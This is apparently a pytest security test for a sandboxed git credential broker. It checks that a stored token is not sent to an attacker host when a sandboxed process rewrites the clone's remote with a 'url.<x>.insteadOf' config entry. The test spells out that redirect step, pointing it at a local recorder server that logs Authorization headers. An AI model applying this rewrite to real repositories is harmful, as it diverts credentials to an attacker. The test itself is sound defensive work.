"""The git broker's credential goes only to the rig's origin.

The Refinery may write its clone's ``.git/config``; ``url.<x>.insteadOf``
there rewrites the URL the broker's git (outside the sandbox, with the
credential helper) contacts.  A real git, the real broker request path
(``serve_one`` over a socket pair), a real credential store, and a local
HTTP server standing for the attacker's host that records what it is sent.
"""

from __future__ import annotations

import http.server
import json
import socket
import subprocess
import threading

from town_helpers import make_repo

from gastown_server.sandbox import broker, secrets
from gastown_server.town import rigs

TOKEN = "ghp_only-for-the-rigs-origin-77"


class _Recorder(http.server.BaseHTTPRequestHandler):
    seen: list[str] = []

    def log_message(self, *_a):
        pass

    def do_GET(self):
        _Recorder.seen.append(self.headers.get("Authorization", ""))
        self.send_response(401)
        self.send_header("WWW-Authenticate", 'Basic realm="x"')
        self.send_header("Content-Length", "0")
        self.end_headers()


def test_a_rewritten_remote_url_gets_no_credential(town, tmp_path):
    rigs.add(town, "alpha", str(make_repo(tmp_path / "src")), prefix="al")
    secrets.set_secret(town, "alpha", "git-password", TOKEN)
    attacker = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    try:
        origin = "http://127.0.0.1:9/alpha.git"  # the rig's recorded URL (nothing listens: never reached)
        repo = str(town.root / "alpha" / "repo")
        subprocess.run(["git", "-C", repo, "remote", "set-url", "origin", origin], check=True)
        # What a sandboxed Refinery can write into its clone's config:
        evil = f"http://127.0.0.1:{attacker.server_address[1]}/"
        subprocess.run(["git", "-C", repo, "config", f"url.{evil}.insteadOf", "http://127.0.0.1:9/"], check=True)
        ours, theirs = socket.socketpair()
        t = threading.Thread(target=broker.serve_one, args=(ours,), daemon=True,
                             kwargs=dict(repo=repo, url=origin, town=str(town.root), rig="alpha", env=broker._git_env()))  # fmt: skip
        t.start()
        theirs.sendall(json.dumps({"args": ["fetch", "origin"], "timeout": 60}).encode() + b"\n")
        reply = json.loads(theirs.makefile().readline())
        t.join(60)
    finally:
        attacker.shutdown()
    assert _Recorder.seen, reply  # git did go to the rewritten host...
    assert not any(h for h in _Recorder.seen), _Recorder.seen  # ...and sent it no credential
    assert reply["rc"] != 0 and "is not rig alpha's origin" in reply["stderr"], reply
